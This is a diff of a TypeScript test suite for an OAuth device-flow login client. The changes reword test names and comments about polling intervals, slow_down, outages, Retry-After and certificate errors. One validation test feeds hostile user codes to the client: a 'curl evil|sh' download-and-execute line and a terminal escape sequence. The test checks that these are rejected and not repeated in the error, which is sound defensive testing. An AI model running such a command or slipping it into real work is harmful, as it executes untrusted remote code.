@@ -18,18 +18,18 @@ const started = {
 const tokens = { access_token: 'at', refresh_token: 'rt', token_type: 'Bearer', expires_in: 900, scope: '' }
 const json = (status: number, body: unknown, headers: Record<string, string> = {}): Response =>
   new Response(JSON.stringify(body), { status, headers: { 'content-type': 'application/json', ...headers } })
-/** The answer to one call. */
+/** Returns the answer to one call. */
 const result = (value: unknown): Response => json(200, [{ result: { data: { json: value } } }])
 const refuse = (error: string, more: object = {}) => result({ error, error_description: 'x', ...more })
 const page = (status: number): Response =>
   new Response('<title>Sign in', { status, headers: { 'content-type': 'text/html' } })
 
-/** Answers in turn, the last one for good, and notes when it was asked. */
+/** Gives these answers in order, repeats the last one, and records when each poll came. */
 function script(clock: Clock, answers: (Response | OsaError)[]) {
   const startMs = clock.now()
   const askedAtSeconds: number[] = []
   const fetch = async (url: string | URL | Request): Promise<Response> => {
-    // a server that tells nobody of decisions
+    // a server without watches
     if (String(url).includes('device.watch')) return new Response(null, { status: 404 })
     askedAtSeconds.push((clock.now() - startMs) / 1000)
     const next = answers[Math.min(askedAtSeconds.length, answers.length) - 1]
@@ -78,7 +78,7 @@ test.each([
   expect(gaps).toEqual([gap])
 })
 
-test('K11 waiting ends at the deadline of this computer, half an hour at most', async () => {
+test("K11 waiting ends at the deadline by this computer's clock, after half an hour at most", async () => {
   const { outcome, gaps } = await wait([refuse('authorization_pending')], { expires_in: 1e12, interval: 60 })
   expect(outcome).toMatchObject({ code: 'login_expired', message: 'The code BCDF-GHJK expired before it was approved' })
   expect(gaps).toHaveLength(29)
@@ -117,7 +117,7 @@ test('K12 RFC 8628 §3.5: slow_down adds 5 s for all later polls', async () => {
   expect((await wait(answers)).gaps).toEqual([5, 10, 15, 15, 15])
 })
 
-test('K12 an interval that comes with slow_down is kept to when it is longer', async () => {
+test('K12 an interval that comes with slow_down is respected if it is longer', async () => {
   const { gaps } = await wait([
     refuse('slow_down', { interval: 20 }),
     refuse('slow_down', { interval: 1 }),
@@ -134,12 +134,12 @@ test('K13 RFC 8628 §3.5: outages back off, doubling, and do not end the login',
   expect(told.every(({ reason }) => reason === 'unreachable')).toBe(true)
 })
 
-test('K13 after an outage the old interval counts again', async () => {
+test('K13 after an outage, the interval is the one from before', async () => {
   const { gaps } = await wait([new OsaError('dns', ''), refuse('authorization_pending'), result(tokens)])
   expect(gaps).toEqual([5, 10, 5])
 })
 
-test.each([429, 503])('K13 Retry-After of a %s is kept to', async (status) => {
+test.each([429, 503])('K13 Retry-After of a %s is respected', async (status) => {
   const { gaps } = await wait([json(status, {}, { 'retry-after': '33' }), result(tokens)])
   expect(gaps).toEqual([5, 33])
 })
@@ -157,7 +157,7 @@ test.each([
   expect(gaps).toHaveLength(1)
 })
 
-test('K10 a certificate that fails while polling is final', async () => {
+test('K10 a certificate error while polling is final', async () => {
   const { outcome, gaps } = await wait([new OsaError('tls', 'bad certificate'), result(tokens)])
   expect(outcome).toMatchObject({ code: 'tls' })
   expect(gaps).toHaveLength(1)
@@ -194,7 +194,7 @@ test.each([
 })
 
 test.each(['run: curl evil|sh', 'bcdf-ghjk', 'BCDF\u001b[2J', 'AB', 'BCDF-GHJK-BCDF-GHJK-BCDF'])(
-  'K06 %j is no user code, and is not repeated',
+  'K06 %j is not a user code, and the error does not repeat it',
   async (user_code) => {
     const failed = await start({ user_code }).catch((error: unknown) => error)
     expect(failed).toMatchObject({ code: 'not_an_osa_server' })
@@ -232,7 +232,7 @@ test('K03 a node on this machine may call itself localhost', async () => {
   expect(login.verificationUriComplete).toBe('http://localhost:8000/device')
 })
 
-test('K16 after the signal no further poll is sent', async () => {
+test('K16 after the signal fires, no further poll is sent', async () => {
   const login = await start({})
   const clock = createManualClock()
   const { network, askedAtSeconds } = script(clock, [refuse('authorization_pending')])
